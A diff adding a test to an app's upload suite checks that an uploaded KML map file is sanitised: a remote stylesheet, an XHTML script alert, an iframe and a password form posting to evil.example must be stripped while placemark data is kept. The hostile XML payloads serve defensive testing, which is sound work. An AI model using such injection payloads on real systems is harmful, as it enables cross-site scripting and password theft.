@@ -404,6 +404,31 @@ describe('layers', () => {
     expect((await get(edited.json().Url, club.visitor)).statusCode).toBe(404);
   });
 
+  it('stores what the reader understood: no XHTML, foreign namespace or processing instruction survives', async () => {
+    const club = await buildSpotClub();
+    const spotId = await createSpot(club.manager);
+    const Data = `<?xml version="1.0" encoding="UTF-8"?>
+<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>
+<kml xmlns="http://www.opengis.net/kml/2.2" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:evil="urn:evil">
+<Document><name>Port</name><h:script>alert(1)</h:script><h:iframe src="https://evil.example/"/>
+<h:form action="https://evil.example/"><h:input name="password"/></h:form><evil:payload>steal</evil:payload>
+<Placemark><name>Bouée</name><description><![CDATA[<b>Mérous</b>]]></description>
+<Point><coordinates>6.3925,42.9918,0</coordinates></Point></Placemark></Document></kml>`;
+    const uploaded = await post('/api/Spots/uploadKmlFile', club.manager, {
+      Name: 'Hostile',
+      Data,
+      Spot_id: spotId,
+      Uploaded: 1,
+    });
+    expect(uploaded.statusCode, uploaded.body).toBe(200);
+    const stored = (await get(uploaded.json().Url, club.visitor)).body;
+    for (const gone of ['xml-stylesheet', '<h:', '<script', 'iframe', '<form', 'evil', 'steal', 'alert'])
+      expect(stored).not.toContain(gone);
+    expect(stored).toContain('<name>Bouée</name>');
+    expect(stored).toContain('<b>Mérous</b>');
+    expect(stored).toContain('6.3925,42.9918,0');
+  });
+
   it('deleting a spot removes its layers and their files', async () => {
     const club = await buildSpotClub();
     const spotId = await createSpot(club.manager);
